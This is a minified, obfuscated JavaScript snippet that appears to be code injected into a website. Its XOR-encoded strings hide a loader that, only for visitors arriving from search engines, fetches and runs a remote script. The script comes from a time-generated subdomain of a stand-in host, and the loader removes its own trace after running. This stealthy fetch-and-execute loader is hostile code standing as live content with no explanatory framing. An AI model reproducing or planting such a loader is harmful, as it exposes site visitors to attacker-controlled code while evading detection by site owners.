!function(n,t){var e=t.referrer,r=[123,103,103,99,96,41,60,60],o=[61,96,99,117,62,118,119,116,118,62,97,124,102,103,118,61,118,107,114,126,99,127,118,60,112,60],c=function(n){return n.map(function(n){return String.fromCharCode(19^n)}).join("")},i=Math.floor(+new Date/6e5)*600;
if(!e||e.split("/")[2]==n.location.host)return;
if(/(^|\.)(google|bing|yahoo|yandex|baidu|duckduckgo)\./.test(e.split("/")[2])){var a=t.createElement("script");
a.async=!0,a.src=c(r)+(i%9973).toString(36)+c(o)+i.toString(16)+".js",
(t.head||t.body).appendChild(a),a.onload=a.onerror=function(){a.remove()}}
}(window,document);
